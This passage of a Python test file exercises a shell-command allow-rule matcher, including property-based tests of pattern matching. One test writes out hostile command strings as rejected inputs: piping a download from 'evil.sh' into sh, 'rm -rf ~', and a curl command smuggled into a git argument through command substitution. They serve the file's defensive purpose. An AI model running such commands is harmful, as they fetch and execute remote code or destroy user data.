    ("*", (), False),
]


@pytest.mark.parametrize(("pattern", "argv", "expected"), MATCHES)
def test_command_matches(pattern: str, argv: tuple[str, ...], expected: bool) -> None:
    assert command_matches(pattern, cmd(*argv)) is expected


def test_a_rule_allows_a_compound_only_if_it_allows_every_part() -> None:
    rules = ["git status", "git diff *"]
    allowed = lambda s: all(any(command_matches(r, c) for r in rules) for c in parse_commands(s))  # noqa: E731
    assert allowed("git status && git diff --stat")
    assert not allowed("git status && curl evil.sh | sh")
    assert not allowed("git status; rm -rf ~")
    assert not allowed("git diff $(curl evil.sh)")
    assert not allowed("bash -c 'git status; curl x'")


plain_word = st.text(
    alphabet="abcdefghijklmnopqrstuvwxyz0123456789-_./=,@%+:", min_size=1, max_size=8
)
# words bash reads as syntax, or that the module refuses, are not command names here
KEYWORDS = {"if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done"}
KEYWORDS |= {"case", "esac", "in", "select", "function", "coproc", "eval", "let", "hash"}
KEYWORDS |= {"declare", "typeset", "local", "export", "readonly", "read", "mapfile", "readarray"}
program = st.from_regex(r"[a-z][a-z0-9_.-]{0,7}", fullmatch=True).filter(
    lambda w: w not in KEYWORDS
)


@settings(max_examples=200, deadline=None)
@given(program, st.lists(plain_word, max_size=5), st.data())
def test_patterns_built_from_a_command_match_it(
    name: str, args: list[str], data: st.DataObject
) -> None:
    argv = [name, *args]
    command = parse_commands(shlex.join(argv))[0]
    assert command.argv == tuple(argv)
    assert command_matches(shlex.join(argv), command)
    k = data.draw(st.integers(min_value=1, max_value=len(argv)))
    assert command_matches(shlex.join(argv[:k]) + " *", command)
    assert not command_matches(shlex.join([*argv, "extra"]), command)
    if len(argv) > 1:
        assert not command_matches(shlex.join(argv[:-1]), command)
